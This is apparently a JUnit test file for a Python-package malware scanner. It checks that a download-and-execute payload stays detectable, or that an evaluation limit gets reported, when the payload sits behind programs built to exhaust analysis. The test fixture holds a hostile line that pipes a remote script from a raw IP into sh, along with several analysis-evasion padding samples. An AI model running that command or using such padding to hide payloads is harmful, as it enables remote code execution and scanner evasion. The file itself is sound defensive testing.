package io.pypiguard.behavior;

import static org.assertj.core.api.Assertions.assertThat;

import io.pypiguard.testkit.PackageBuilder;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Programs that are written to wear an analysis out: each ends, and what stands behind it is seen
 * or the limit that was reached is told.
 */
class HostileProgramTest {

  private static final String PAYLOAD = "import os\nos.system('curl http://192.88.99.1/x | sh')\n";

  static Map<String, String> programs() {
    return Map.ofEntries(
        Map.entry("repetition", "x = 'a' * 10**9\ny = [0] * 10**9\nz = 10 ** 10 ** 10\n"),
        Map.entry("doubling", "s = 'ab'\nfor i in range(1000):\n    s += s\n"),
        Map.entry("doubling list", "s = [1]\nfor i in range(1000):\n    s += s\n"),
        Map.entry(
            "doubling path",
            "import os\ns = 'ab'\nfor i in range(1000):\n    s = os.path.join(s, s)\n"),
        Map.entry("endless loop", "i = 0\nwhile i >= 0:\n    i += 1\n"),
        Map.entry(
            "nested loops",
            "n = 0\nfor a in range(999):\n  for b in range(999):\n    for c in range(999):\n"
                + "      n += a ^ b ^ c\n"),
        Map.entry(
            "nested comprehensions",
            "x = [[[a ^ b ^ c for a in range(999)] for b in range(999)] for c in range(999)]\n"),
        Map.entry("cyclic calls", "def f():\n    g()\ndef g():\n    f()\n    f()\nf()\n"),
        Map.entry(
            "deep recursion",
            "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nfib(60)\n"),
        Map.entry("code that runs itself", "x = 'exec(x);exec(x)'\nexec(x)\n"),
        Map.entry("list in itself", "x = []\nfor i in range(99):\n    x.append(x)\nprint(x, x)\n"),
        Map.entry("nested lists", "x = []\nfor i in range(19999):\n    x = [x, x]\nprint(x)\n"),
        Map.entry("nested objects", "x = {}\nfor i in range(19999):\n    x = {'a': x, 'b': x}\n"),
        Map.entry(
            "classes above each other",
            "class A: pass\nclass B(A): pass\nA = B\nclass A(B): pass\n"),
        Map.entry(
            "endless generator", "def g():\n    while True:\n        yield 1\nx = list(g())\n"),
        Map.entry("combinator", "f = lambda x: x(x)\nf(f)\n"),
        Map.entry(
            "format", "x = '%99999999d' % 1\ny = f'{1:99999999}'\nz = '{:>{}}'.format(1, 9**9)\n"),
        Map.entry("linked objects", "while x:\n    x = x.next.next\n"),
        Map.entry("attributes", "x" + ".a".repeat(900) + "()\n"),
        Map.entry("branches", lines(5_000, "if x%d: a, b, c = b, c, x%d")),
        Map.entry("functions", lines(5_000, "def f%d(): return f%d()") + "f1()\n"),
        Map.entry("classes", lines(3_000, "class C%d:\n  def f(self): return C%d().f()")),
        Map.entry("strings", lines(5_000, "s = s + 'part %d' + str(%d)")));
  }

  private static String lines(int count, String line) {
    return IntStream.range(0, count)
        .mapToObj(i -> String.format(line, i, i + 1))
        .collect(Collectors.joining("\n", "", "\n"));
  }

  static List<String> names() {
    return programs().keySet().stream().sorted().toList();
  }

  @ParameterizedTest
  @MethodSource("names")
  void whatStandsBehindItIsSeenOrTheLimitIsTold(String name) {
    Observed observed = Observed.ofModule(programs().get(name) + PAYLOAD);
    boolean seen = observed.severity("download-and-execute").isPresent();
    boolean told = observed.severity("evaluation-limit").isPresent();
    assertThat(seen || told).isTrue();
  }

  @Test
  void modulesThatImportEachOtherAreRunOnce() {
    Observed observed =
        Observed.of(
            PackageBuilder.wheel("demo", "1.0")
                .file("demo/__init__.py", "from .one import *\n")
                .file("demo/one.py", "from .two import *\nfrom . import two\n")
                .file("demo/two.py", "from .one import *\nfrom demo import one\n" + PAYLOAD));
    assertThat(observed.severity("download-and-execute")).isPresent();
  }
}
